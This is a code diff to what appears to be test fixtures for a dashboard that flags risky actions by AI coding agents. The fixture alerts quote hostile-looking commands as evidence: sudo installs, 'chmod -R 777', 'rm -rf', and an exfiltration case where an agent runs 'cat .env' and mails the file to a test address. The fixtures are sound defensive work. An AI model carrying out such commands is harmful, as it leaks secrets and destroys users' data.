@@ -32,7 +32,7 @@ export function makeAlerts() {
     const about = RULES.find(([id]) => id === rule)
     alerts.push({
       alert_id: `al-${String(number).padStart(4, '0')}`, rule, severity: about?.[1] ?? 'medium', state: 'open', session_id: FLAKY, session_title: 'Fix flaky auth tests', project: WEB,
-      agent_id: 'main', tool_use_id: `toolu_${number}`, event_id: null, tool_name: 'Bash', reason: about?.[4] ?? 'A rule of a later version', evidence: null, raised_at: at, first_seen_at: at, last_seen_at: at,
+      agent_id: 'main', tool_use_id: `toolu_${number}`, event_id: null, tool_name: 'Bash', reason: about?.[4] ?? 'A rule of a later version', evidence: null, cause: null, raised_at: at, first_seen_at: at, last_seen_at: at,
       count: 1, is_history: false, state_changed_at: null, state_reason: null, muted_until: null, ...change,
     })
   }
@@ -44,7 +44,8 @@ export function makeAlerts() {
   raise('priv.sudo', 40, { state: 'acknowledged', state_changed_at: iso(BASE - 30 * MINUTE), session_id: 'c0ffee00-0000-4000-8000-000000000003', session_title: 'Explain the build', reason: 'Runs apt-get through sudo', evidence: evidence('env DEBIAN_FRONTEND=noninteractive sudo apt-get install -y jq', 'sudo apt-get install -y jq') })
   raise('fs.chmod-world', 300, { state: 'resolved', state_reason: 'I meant it to do this', session_id: 'd00d0000-0000-4000-8000-000000000004', session_title: HOSTILE, project: '/tmp/<b>bold</b>', reason: 'Makes "שלום/קובץ" writable by everybody', evidence: evidence('chmod -R 777 "שלום/קובץ"', '777') })
   raise('agent.orphan-subagent', 42, { agent_id: 'lost1', tool_use_id: null, tool_name: null, event_id: `${FLAKY}~lost1..0`, reason: 'Events of agent lost1 came in that no known call had spawned' })
-  raise('net.exfiltrate', 600, { severity: 'high', session_id: GONE, session_title: null, project: null, tool_name: 'mcp__mail__send_message_with_a_very_long_tool_name', reason: 'Sends the contents of .env to a server that no other session talked to', evidence: evidence('{"to": "x@example.test", "attach": [".env"]}', '".env"') })
+  raise('net.exfiltrate', 600, { severity: 'high', session_id: GONE, session_title: null, project: null, tool_name: 'mcp__mail__send_message_with_a_very_long_tool_name', reason: 'Sends the contents of .env to a server that no other session talked to', evidence: evidence('{"to": "x@example.test", "attach": [".env"]}', '".env"'),
+    cause: { event_id: `${GONE}~toolu_read`, agent_id: 'a3', at: iso(BASE - 604 * MINUTE), text: `cat .env ${HOSTILE}` } })
   raise('budget.session', 30, { event_id: null, tool_use_id: null, tool_name: null, reason: 'The session cost $1.12, its budget is $1.00', count: 1 })
   raise('fs.rm-rf-project', 1500, { state: 'muted', muted_until: iso(BASE + 86_400_000), state_changed_at: iso(BASE - 1400 * MINUTE), evidence: evidence('rm -rf src/legacy docs/old', 'rm -rf src/legacy docs/old') })
   for (let at = 0; at < 240; at += 1) {
@@ -104,7 +105,9 @@ function ruleCatalogue(alerts) {
       days.set(day, (days.get(day) ?? 0) + 1)
     }
     return {
-      rule, family: rule.split('.')[0], severity, act, attack, title, why, advice, alert_count: own.length, open_count: own.filter((each) => each.state === 'open').length,
+      rule, family: rule.split('.')[0], severity, act, is_enabled: rule !== 'fs.chmod-world', origin: rule === 'fs.chmod-world' ? 'tuned' : 'catalogue',
+      exceptions: rule === 'fs.write-outside' ? [{ fits: ['/srv/cache/**', HOSTILE], reason: 'Made again every night', until: iso(BASE + 90 * 86_400_000) }] : [],
+      attack, title, why, advice, alert_count: own.length, open_count: own.filter((each) => each.state === 'open').length,
       last_seen_at: own.map((each) => each.last_seen_at).sort().at(-1) ?? null, days: at === 0 ? [...days, ...[3, 9, 12].map((ago) => [iso(BASE - ago * 86_400_000).slice(0, 10), ago])].map(([day, count]) => ({ day, count })) : [...days].map(([day, count]) => ({ day, count })),
     }
   })
